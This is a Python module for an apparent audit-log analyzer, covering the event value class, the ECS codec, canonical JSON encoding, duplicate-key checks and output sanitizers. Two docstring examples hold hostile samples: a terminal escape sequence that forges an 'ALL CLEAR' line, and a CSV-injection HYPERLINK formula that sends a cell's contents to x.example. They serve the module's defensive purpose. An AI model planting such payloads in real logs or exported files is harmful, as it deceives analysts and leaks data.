"""Audit events: the value object, its Elastic Common Schema codec, and the normalized frame.

An :class:`AuditEvent` is a frozen value. :meth:`AuditEvent.to_ecs` turns it into the nested
ECS document written to disk (DESIGN contract 1) and :meth:`AuditEvent.from_ecs` reads one back,
naming the field that is wrong when it cannot. :data:`FRAME_COLUMNS` is the schema of the
normalized events frame (DESIGN contract 3) that every reader produces.

This module imports nothing of the project but :mod:`analyzer.errors`.

>>> from datetime import datetime, timezone
>>> ev = AuditEvent("login", timestamp=datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc),
...                 user="alice", outcome="success", source_ip="10.0.0.7")
>>> doc = ev.to_ecs()
>>> doc["@timestamp"], doc["event"]["category"], doc["user"]["name"]
('2026-01-02T03:04:05.000000Z', ['authentication'], 'alice')
>>> AuditEvent.from_ecs(doc) == ev
True
"""

from __future__ import annotations

import dataclasses
import enum
import ipaddress
import re
from collections.abc import Iterable, Mapping
from datetime import UTC, datetime
from typing import Any

import orjson

from analyzer.errors import SchemaError

__all__ = [
    "CANONICAL",
    "ECS_COLUMNS",
    "ECS_VERSION",
    "EXTENSION_FIELDS",
    "FRAME_COLUMNS",
    "REQUIRED_FRAME_COLUMNS",
    "AuditEvent",
    "Kind",
    "Level",
    "Outcome",
    "column_value",
    "decode_record",
    "ecs_value",
    "encode_record",
    "format_timestamp",
    "formula_safe",
    "infer_category",
    "json_default",
    "parse_timestamp",
    "printable",
    "validate_frame",
]

#: The ECS version the field names follow (checked by tests against the shipped field list).
ECS_VERSION = "9.5.0"

#: Fields we write that are not part of ECS. Everything else we write is an ECS field; the
#: whole ``analyzer.*`` namespace belongs to this project (alert details, chain metadata).
EXTENSION_FIELDS: Mapping[str, str] = {
    "resource.name": "keyword: what was acted on (model, dataset, endpoint, IAM object)",
    "resource.type": "keyword: the kind of resource (model, dataset, secret, ...)",
    "resource.bytes": "long: bytes read or written",
    "session.id": "keyword: the application's session identifier",
    "analyzer.*": "object: this project's namespace (alert details, chain metadata)",
}


class Level(enum.IntEnum):
    """Severity, ordered so that a minimum-level filter is a comparison."""

    DEBUG = 10
    INFO = 20
    WARNING = 30
    ERROR = 40
    CRITICAL = 50

    @property
    def label(self) -> str:
        """The ECS ``log.level`` value."""
        return _LEVEL_LABELS[self]

    @classmethod
    def parse(cls, value: Level | str | int) -> Level:
        """Accept a Level, a name in any case (``warn`` too) or a stdlib logging number."""
        if isinstance(value, Level):
            return value
        if isinstance(value, int):
            # stdlib levels between ours round down, as logging does for custom levels
            for level in reversed(cls):
                if value >= level:
                    return level
            return cls.DEBUG
        key = str(value).strip().lower()
        try:
            return _LEVEL_BY_LABEL[key]
        except KeyError:
            raise SchemaError(
                f"unknown log level {value!r}; expected one of {', '.join(_LEVEL_LABELS.values())}"
            ) from None


_LEVEL_LABELS = {lvl: lvl.name.lower() for lvl in Level}
_LEVEL_BY_LABEL = {**{v: k for k, v in _LEVEL_LABELS.items()}, "warn": Level.WARNING,
                   "fatal": Level.CRITICAL, "err": Level.ERROR, "crit": Level.CRITICAL}


class Outcome(enum.StrEnum):
    """ECS ``event.outcome``."""

    SUCCESS = "success"
    FAILURE = "failure"
    UNKNOWN = "unknown"

    @classmethod
    def parse(cls, value: Outcome | str | bool | None) -> Outcome:
        """Accept the ECS words and the common synonyms found in other logs."""
        if isinstance(value, Outcome):
            return value
        if value is None:
            return cls.UNKNOWN
        if isinstance(value, bool):
            return cls.SUCCESS if value else cls.FAILURE
        key = str(value).strip().lower()
        try:
            return _OUTCOME_SYNONYMS[key]
        except KeyError:
            raise SchemaError(
                f"unknown outcome {value!r}; expected success, failure or unknown"
            ) from None


_OUTCOME_SYNONYMS = {
    **{o.value: o for o in Outcome},
    "ok": Outcome.SUCCESS, "allowed": Outcome.SUCCESS, "allow": Outcome.SUCCESS,
    "succeeded": Outcome.SUCCESS, "true": Outcome.SUCCESS, "pass": Outcome.SUCCESS,
    "fail": Outcome.FAILURE, "failed": Outcome.FAILURE, "denied": Outcome.FAILURE,
    "deny": Outcome.FAILURE, "error": Outcome.FAILURE, "false": Outcome.FAILURE,
    "": Outcome.UNKNOWN,
}


class Kind(enum.StrEnum):
    """ECS ``event.kind``: activity, or a detection made by the analyzer."""

    EVENT = "event"
    ALERT = "alert"


#: ECS ``event.category`` allowed values (ECS 9), used to validate what callers pass.
ECS_CATEGORIES = frozenset({
    "api", "authentication", "configuration", "database", "driver", "email", "file", "host",
    "iam", "intrusion_detection", "library", "malware", "network", "package", "process",
    "registry", "session", "threat", "vulnerability", "web",
})

# Action prefixes -> ECS category, so that callers rarely need to name one. First match wins.
_CATEGORY_BY_PREFIX: tuple[tuple[str, str], ...] = (
    ("login", "authentication"), ("logout", "authentication"), ("auth", "authentication"),
    ("mfa", "authentication"), ("password", "authentication"), ("token", "authentication"),
    ("sudo", "iam"), ("su", "iam"), ("permission", "iam"), ("role", "iam"), ("user", "iam"),
    ("group", "iam"), ("policy", "iam"), ("key", "iam"), ("secret", "iam"),
    ("session", "session"), ("dataset", "database"), ("db", "database"),
    ("database", "database"), ("table", "database"), ("query", "database"),
    ("file", "file"), ("model", "api"), ("inference", "api"), ("api", "api"),
    ("http", "web"), ("web", "web"), ("config", "configuration"), ("setting", "configuration"),
    ("audit", "configuration"), ("process", "process"), ("network", "network"),
)


def infer_category(action: str) -> tuple[str, ...]:
    """Guess the ECS category of an action from its first dotted or underscored word.

    >>> infer_category("model.download"), infer_category("login"), infer_category("frobnicate")
    (('api',), ('authentication',), ())
    """
    head = action.replace("_", ".").split(".", 1)[0].lower()
    for prefix, category in _CATEGORY_BY_PREFIX:
        if head == prefix or (head.startswith(prefix) and prefix not in ("su", "key")):
            return (category,)
    return ()


def format_timestamp(ts: datetime) -> str:
    """ISO 8601 in UTC with microseconds and ``Z``, as ``@timestamp`` requires.

    Naive datetimes are taken to be UTC already.
    """
    if ts.tzinfo is None:
        ts = ts.replace(tzinfo=UTC)
    elif ts.utcoffset():
        ts = ts.astimezone(UTC)
    return ts.replace(tzinfo=None).isoformat(timespec="microseconds") + "Z"


def parse_timestamp(value: str | datetime | float | int) -> datetime:
    """Parse ISO 8601 (any offset or ``Z``) or epoch seconds into an aware UTC datetime."""
    if isinstance(value, datetime):
        return value.replace(tzinfo=UTC) if value.tzinfo is None else value.astimezone(UTC)
    if isinstance(value, bool):
        raise SchemaError(f"not a timestamp: {value!r}")
    if isinstance(value, int | float):
        try:
            return datetime.fromtimestamp(value, UTC)
        except (OverflowError, OSError, ValueError) as exc:
            raise SchemaError(f"timestamp out of range: {value!r}") from exc
    text = str(value).strip()
    try:
        parsed = datetime.fromisoformat(text)
    except ValueError:
        try:
            return datetime.fromtimestamp(float(text), UTC)
        except (ValueError, OverflowError, OSError):
            raise SchemaError(f"unparseable timestamp {value!r}") from None
    return parsed.replace(tzinfo=UTC) if parsed.tzinfo is None else parsed.astimezone(UTC)


def _check_ip(value: str | None, field: str) -> str | None:
    if value is None or value == "":
        return None
    try:
        return str(ipaddress.ip_address(value))
    except ValueError:
        raise SchemaError(f"{field}: not an IP address: {value!r}") from None


def _tuple_of_str(value: Iterable[str] | str | None, field: str) -> tuple[str, ...]:
    if value is None:
        return ()
    if isinstance(value, str):
        return (value,)
    values = tuple(value)
    bad = next((v for v in values if not isinstance(v, str)), None)
    if bad is not None:
        raise SchemaError(f"{field}: expected strings, got {bad!r:.60}")
    return values


@dataclasses.dataclass(frozen=True, slots=True, kw_only=True)
class AuditEvent:
    """One audit record, as a value.

    Parameters are keyword-only except ``action``. Enum fields accept their string values;
    ``timestamp`` accepts an aware datetime (naive means UTC). Location metadata
    (``host``, ``pid``, ``origin_*``) is normally filled by the logger, not by callers.
    """

    action: str
    timestamp: datetime
    level: Level = Level.INFO
    message: str = ""
    outcome: Outcome = Outcome.UNKNOWN
    kind: Kind = Kind.EVENT
    category: tuple[str, ...] = ()
    user: str | None = None
    roles: tuple[str, ...] = ()
    source_ip: str | None = None
    country: str | None = None
    city: str | None = None
    resource: str | None = None
    resource_type: str | None = None
    bytes: int | None = None
    session: str | None = None
    host: str | None = None
    pid: int | None = None
    service: str | None = None
    logger: str | None = None
    origin_file: str | None = None
    origin_line: int | None = None
    origin_function: str | None = None
    id: str | None = None
    sequence: int | None = None
    hash: str | None = None
    # alert fields (DESIGN contract 1)
    start: datetime | None = None
    end: datetime | None = None
    risk_score: float | None = None
    rule_name: str | None = None
    rule_id: str | None = None
    rule_version: str | None = None
    analyzer: Mapping[str, Any] | None = None

    def __init__(self, action: str, **fields: Any) -> None:
        # A hand-written __init__ so that callers may pass strings for enums, lists for
        # tuples and strings for timestamps, and still get a normalized, validated value.
        if not isinstance(action, str) or not action:
            raise SchemaError("event.action: must be a non-empty string")
        unknown = set(fields) - _FIELD_NAMES
        if unknown:
            raise SchemaError(f"unknown event field(s): {', '.join(sorted(unknown))}")
        if "timestamp" not in fields:
            raise SchemaError("@timestamp: required")
        set_ = object.__setattr__
        set_(self, "action", action)
        for f in _FIELD_DEFAULTS:
            set_(self, f, fields.get(f, _FIELD_DEFAULTS[f]))
        set_(self, "timestamp", check_time_span(parse_timestamp(fields["timestamp"]),
                                                "@timestamp"))
        set_(self, "level", Level.parse(self.level))
        set_(self, "outcome", Outcome.parse(self.outcome))
        try:
            set_(self, "kind", Kind(self.kind))
        except ValueError:
            raise SchemaError(f"event.kind: expected event or alert, got {self.kind!r}") from None
        category = _tuple_of_str(self.category, "event.category") or infer_category(action)
        bad = [c for c in category if c not in ECS_CATEGORIES]
        if bad:
            raise SchemaError(f"event.category: not an ECS category: {', '.join(bad)}")
        set_(self, "category", category)
        set_(self, "roles", _tuple_of_str(self.roles, "user.roles"))
        set_(self, "source_ip", _check_ip(self.source_ip, "source.ip"))
        for name in ("start", "end"):
            value = getattr(self, name)
            if value is not None:
                set_(self, name, parse_timestamp(value))
        for name in ("bytes", "pid", "origin_line", "sequence"):
            value = getattr(self, name)
            if value is not None and (isinstance(value, bool) or not isinstance(value, int)
                                      or not -(1 << 63) <= value < 1 << 63):
                raise SchemaError(f"{_ECS_NAME[name]}: expected an integer, got {value!r:.60}")
        if self.bytes is not None and self.bytes < 0:
            raise SchemaError(f"resource.bytes: expected 0 or more, got {self.bytes!r}")
        if self.risk_score is not None:
            set_(self, "risk_score", float(self.risk_score))
        for name in _STRING_FIELDS:
            value = getattr(self, name)
            if value is not None and not isinstance(value, str):
                raise SchemaError(f"{_ECS_NAME[name]}: expected a string, got {value!r}")

    # -- codec ---------------------------------------------------------------------------

    def to_ecs(self) -> dict[str, Any]:
        """The nested ECS document for this event (empty fields omitted)."""
        doc: dict[str, Any] = {
            "@timestamp": format_timestamp(self.timestamp),
            "message": self.message,
            "log": {"level": self.level.label},
            "event": {"action": self.action, "kind": self.kind.value,
                      "outcome": self.outcome.value},
        }
        for name, path in _OPTIONAL_PATHS:
            value = getattr(self, name)
            if value is None or value == ():
                continue
            if isinstance(value, datetime):
                value = format_timestamp(value)
            elif isinstance(value, tuple):
                value = list(value)
            elif isinstance(value, Mapping):
                value = dict(value)
            node = doc
            for key in path[:-1]:
                node = node.setdefault(key, {})
            node[path[-1]] = value
        return doc

    @classmethod
    def from_ecs(cls, doc: Mapping[str, Any]) -> AuditEvent:
        """Read an ECS document back, raising :class:`SchemaError` naming a bad field."""
        if not isinstance(doc, Mapping):
            raise SchemaError("record: expected a JSON object")
        fields: dict[str, Any] = {}
        event = doc.get("event")
        if not isinstance(event, Mapping) or not isinstance(event.get("action"), str):
            raise SchemaError("event.action: missing")
        if "@timestamp" not in doc:
            raise SchemaError("@timestamp: missing")
        fields["timestamp"] = doc["@timestamp"]
        fields["message"] = doc.get("message", "")
        log = doc.get("log") or {}
        fields["level"] = log.get("level", "info") if isinstance(log, Mapping) else "info"
        fields["kind"] = event.get("kind", "event")
        fields["outcome"] = event.get("outcome", "unknown")
        for name, path in _OPTIONAL_PATHS:
            node: Any = doc
            for key in path:
                node = node.get(key) if isinstance(node, Mapping) else None
                if node is None:
                    break
            if node is not None:
                fields[name] = node
        return cls(event["action"], **fields)


_FIELD_DEFAULTS = {
    f.name: f.default for f in dataclasses.fields(AuditEvent) if f.name not in ("action",)
    and f.default is not dataclasses.MISSING
}
_FIELD_NAMES = frozenset(_FIELD_DEFAULTS) | {"timestamp"}

#: attribute -> dotted ECS field; the single table the codec, the readers (through
#: :data:`ECS_COLUMNS`) and the ECS conformance test all use.
_ECS_NAME: dict[str, str] = {
    "timestamp": "@timestamp", "message": "message", "level": "log.level",
    "action": "event.action", "kind": "event.kind", "outcome": "event.outcome",
    "category": "event.category", "user": "user.name", "roles": "user.roles",
    "source_ip": "source.ip", "country": "source.geo.country_iso_code",
    "city": "source.geo.city_name", "resource": "resource.name",
    "resource_type": "resource.type", "bytes": "resource.bytes", "session": "session.id",
    "host": "host.name", "pid": "process.pid", "service": "service.name",
    "logger": "log.logger", "origin_file": "log.origin.file.name",
    "origin_line": "log.origin.file.line", "origin_function": "log.origin.function",
    "id": "event.id", "sequence": "event.sequence", "hash": "event.hash",
    "start": "event.start", "end": "event.end", "risk_score": "event.risk_score",
    "rule_name": "rule.name", "rule_id": "rule.id", "rule_version": "rule.version",
    "analyzer": "analyzer",
}
ECS_FIELD_NAMES: Mapping[str, str] = _ECS_NAME
_REQUIRED_ATTRS = ("timestamp", "message", "level", "action", "kind", "outcome")
_OPTIONAL_PATHS: tuple[tuple[str, tuple[str, ...]], ...] = tuple(
    (attr, tuple(name.split("."))) for attr, name in _ECS_NAME.items()
    if attr not in _REQUIRED_ATTRS
)
_STRING_FIELDS = ("message", "user", "country", "city", "resource", "resource_type", "session",
                  "host", "service", "logger", "origin_file", "origin_function", "id", "hash",
                  "rule_name", "rule_id", "rule_version")


# -- JSON codec ----------------------------------------------------------------------------

def json_default(obj: Any) -> Any:
    """orjson's ``default`` for audit records: the few extra types we allow, and an error
    for anything else. A silent ``repr`` would make the record unverifiable after a round
    trip, so an unknown type is refused instead."""
    if isinstance(obj, enum.Enum):
        return obj.value
    if isinstance(obj, datetime):
        return format_timestamp(obj)
    if isinstance(obj, set | frozenset):
        return sorted(obj)
    if isinstance(obj, tuple):
        return list(obj)
    item = getattr(obj, "item", None)
    if callable(item) and type(obj).__module__ == "numpy":  # numpy scalars
        return item()
    raise TypeError(f"cannot encode {type(obj).__name__} in an audit record")


#: The orjson options of the canonical encoding: sorted keys (and non-string keys written as
#: strings). The chain covers these bytes, so everything that writes or re-encodes a record
#: for its hash uses this one set.
CANONICAL = orjson.OPT_SORT_KEYS | orjson.OPT_NON_STR_KEYS


def encode_record(doc: Mapping[str, Any]) -> bytes:
    """Canonical JSON for a record: sorted keys, no spaces, UTF-8, no trailing newline.

    Control characters, including newlines, are escaped by JSON itself, so one record is
    always one line.
    """
    try:
        return orjson.dumps(doc, default=json_default, option=CANONICAL)
    except TypeError as exc:
        raise SchemaError(str(exc.__cause__ or exc)) from exc


#: Longest line any reader (and ``verify``) reads; a longer one is set aside unparsed, and
#: only this much of it is ever held in memory.
MAX_LINE_BYTES = 1 << 20
#: Largest record the logger writes, the whole line as stored (after encryption, which
#: grows a record by a third): below :data:`MAX_LINE_BYTES`, so every record it writes
#: can be read back.
MAX_RECORD_BYTES = 512 << 10
#: The span of times the normalized frame (``datetime64[ns]``) holds, with a day to spare
#: at each end: the logger refuses a ``@timestamp`` outside it, as every reader would.
TIME_SPAN = (datetime(1677, 9, 23, tzinfo=UTC), datetime(2262, 4, 10, tzinfo=UTC))


def check_time_span(moment: datetime, field: str) -> datetime:
    """``moment``, or a :class:`SchemaError` naming ``field`` if the frame cannot hold it."""
    if not TIME_SPAN[0] <= moment <= TIME_SPAN[1]:
        raise SchemaError(f"{field}: {format_timestamp(moment)} is outside the span the "
                          f"analyzer reads (1677-09-23 to 2262-04-10)")
    return moment


def may_contain(line: bytes, literal: bytes) -> bool:
    r"""Whether a JSON line may hold the JSON text ``literal`` once parsed: a pre-filter.

    ``literal`` must be made of characters a JSON writer never has to escape (letters,
    digits, ``"``-delimited words): such a character is spelled either as itself or as a
    ``\u`` escape, so a line holding neither ``literal`` nor any ``\u`` cannot hold the
    value. A pre-filter only saves work: the caller still decides on the parsed record.

    >>> may_contain(b'{"kind":"alert"}', b'"alert"'), may_contain(b'{"kind":"event"}', b'"alert"')
    (True, False)
    >>> may_contain(b'{"kind":"\\u0061lert"}', b'"alert"')
    True
    """
    return literal in line or b"\\u" in line


def duplicate_key(line: bytes, doc: Any = None) -> str | None:
    """The dotted path of the first key that ``line`` (one JSON object) repeats, or None.

    Parsers disagree on a repeated key (orjson keeps the last value, others the first, some
    refuse), so a record with one means different things to different readers. ``doc`` is
    the line already parsed by orjson: when re-encoding it gives back ``line`` exactly (the
    logger's own records), no key can repeat and the slow, exact walk is skipped.

    >>> duplicate_key(b'{"user":{"name":"m"},"user":{"name":"u3"}}')
    'user'
    >>> duplicate_key(b'{"user":{"name":"m","name":"u3"}}'), duplicate_key(b'{"a":1}')
    ('user.name', None)
    """
    found = duplicate_keys(line, doc)
    return found[0] if found else None


def duplicate_keys(line: bytes, doc: Any = None) -> list[str]:
    """Every repeated key of ``line`` as a dotted path, in document order (see
    :func:`duplicate_key`); paths go through lists without an index."""
    if doc is not None:
        try:
            if orjson.dumps(doc) == line:
                return []
        except TypeError:
            pass
    import json  # only here: its hook sees every key, orjson's parser does not

    try:
        parsed = json.loads(line, object_pairs_hook=_KeyedObject.from_pairs)
    except (ValueError, RecursionError):
        return []  # not JSON: the caller's parse says so
    found: list[str] = []
    _repeated_paths(parsed, "", found)
    return found


class _KeyedObject(dict[str, Any]):
    """A parsed JSON object that remembers the keys its text repeated."""

    repeated: tuple[str, ...] = ()

    @classmethod
    def from_pairs(cls, pairs: list[tuple[str, Any]]) -> _KeyedObject:
        obj = cls(pairs)
        if len(obj) < len(pairs):
            seen: set[str] = set()
            repeated: dict[str, None] = {}  # ordered, each key once
            for key, _ in pairs:
                if key in seen:
                    repeated[key] = None
                seen.add(key)
            obj.repeated = tuple(repeated)
        return obj


def _repeated_paths(node: Any, prefix: str, found: list[str]) -> None:
    if isinstance(node, _KeyedObject):
        found.extend(prefix + key for key in node.repeated)
        for name, value in node.items():
            _repeated_paths(value, f"{prefix}{name}.", found)
    elif isinstance(node, list):
        for value in node:
            _repeated_paths(value, prefix, found)


def decode_record(line: bytes | str) -> dict[str, Any]:
    """Parse one JSON line, raising :class:`SchemaError` if it is not a JSON object."""
    try:
        doc = orjson.loads(line)
    except orjson.JSONDecodeError as exc:
        raise SchemaError(f"bad JSON: {exc}") from None
    if not isinstance(doc, dict):
        raise SchemaError("bad JSON: not an object")
    return doc


# -- the normalized events frame (DESIGN contract 3) -----------------------------------------

#: column -> pandas dtype of the normalized frame. The first six are required.
FRAME_COLUMNS: Mapping[str, str] = {
    "timestamp": "datetime64[ns, UTC]",
    "user": "category",
    "action": "category",
    "outcome": "category",
    "source_ip": "category",
    "resource": "category",
    "level": "category",
    "kind": "category",
    "category": "category",
    "country": "category",
    "host": "category",
    "session": "string",
    "bytes": "Int64",
    "message": "string",
    "sequence": "Int64",
    "event_id": "string",
}
REQUIRED_FRAME_COLUMNS: tuple[str, ...] = (
    "timestamp", "user", "action", "outcome", "source_ip", "resource",
)
OUTCOME_CATEGORIES = tuple(o.value for o in Outcome)

#: column -> the ECS path it is read from in a record: the frame's columns, then ``roles``
#: (the first role, a column readers add) and ``hash`` (the chain link, a query column).
#: Derived from the codec's own table, so the ECS reader, ``query``, ``watch`` and ``store``
#: read every column from where :meth:`AuditEvent.to_ecs` writes it.
ECS_COLUMNS: Mapping[str, tuple[str, ...]] = {
    column: tuple(_ECS_NAME["id" if column == "event_id" else column].split("."))
    for column in (*FRAME_COLUMNS, "roles", "hash")
}
#: Columns whose record value is a list (ECS arrays): a column holds the first element.
LIST_COLUMNS = frozenset({"category", "roles"})
#: Columns whose record value is an integer; every other column is a string.
INTEGER_COLUMNS = frozenset({"bytes", "sequence"})


def ecs_value(doc: Any, path: tuple[str, ...], default: Any = None) -> Any:
    """The value at ``path`` of a parsed record, or ``default`` where a level is missing or
    is not an object.

    >>> ecs_value({"user": {"name": "alice"}}, ECS_COLUMNS["user"]), ecs_value({}, ("a", "b"))
    ('alice', None)
    """
    for key in path:
        if not isinstance(doc, Mapping) or key not in doc:
            return default
        doc = doc[key]
    return doc


def column_value(doc: Any, column: str) -> Any:
    """The value of ``column`` (of :data:`ECS_COLUMNS`) in a parsed record; for a list
    column its first element (None for an empty list), as the readers' columns hold it.

    >>> column_value({"event": {"category": ["iam", "session"]}}, "category")
    'iam'
    """
    value = ecs_value(doc, ECS_COLUMNS[column])
    if column in LIST_COLUMNS and isinstance(value, list):
        return value[0] if value else None
    return value


def validate_frame(frame: Any, *, source: str = "frame") -> None:
    """Raise :class:`SchemaError` naming every required column ``frame`` lacks."""
    missing = [c for c in REQUIRED_FRAME_COLUMNS if c not in frame.columns]
    if missing:
        raise SchemaError(f"{source}: missing required column(s): {', '.join(missing)}")


_SHORT_ESCAPES = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def printable(text: str, *, keep: str = "") -> str:
    r"""``text`` safe to show a person: every non-printable character made visible.

    Values in logs are written by whoever wrote the log. An escape sequence in a user name
    could clear an analyst's screen and print a fake "ALL CLEAR"; a newline could forge a
    line of output; a bidi override could reverse what is read. So every control, format
    and separator character is shown as an escape (``\x1b``, ``\n``, ``\u202e``), except
    those in ``keep`` (a renderer's own line breaks). This is the one such function: the
    command line, ``query`` tables and the text report all use it.

    >>> print(printable("eve\x1b[2J\nALL CLEAR"))
    eve\x1b[2J\nALL CLEAR
    >>> print(printable("ok\tfine", keep="\t"))
    ok	fine
    """
    if text.isprintable():
        return text
    out = []
    for ch in text:
        if ch.isprintable() or ch in keep:
            out.append(ch)
        elif ch in _SHORT_ESCAPES:
            out.append(_SHORT_ESCAPES[ch])
        elif ord(ch) < 0x100:
            out.append(f"\\x{ord(ch):02x}")
        else:
            out.append(f"\\u{ord(ch):04x}" if ord(ch) < 0x10000 else f"\\U{ord(ch):08x}")
    return "".join(out)


#: A cell a spreadsheet would run as a formula (OWASP, CSV injection): it starts with one of
#: these and is not a plain number.
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def formula_safe(value: str) -> str:
    """A CSV cell a spreadsheet shows as text instead of running it (OWASP's advice).

    A value from a log that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return gets a leading ``'``; plain numbers (``-5``, ``+1.5e3``) are left alone. CSV
    writers that hand files to people apply it unless told not to (``--raw-csv``).

    >>> print(formula_safe('=HYPERLINK("http://x.example/?"&A1,"click")'))
    '=HYPERLINK("http://x.example/?"&A1,"click")
    >>> formula_safe("-12.5"), formula_safe("alice")
    ('-12.5', 'alice')
    """
    if value and FORMULA_START.match(value) and not PLAIN_NUMBER.match(value):
        return "'" + value
    return value
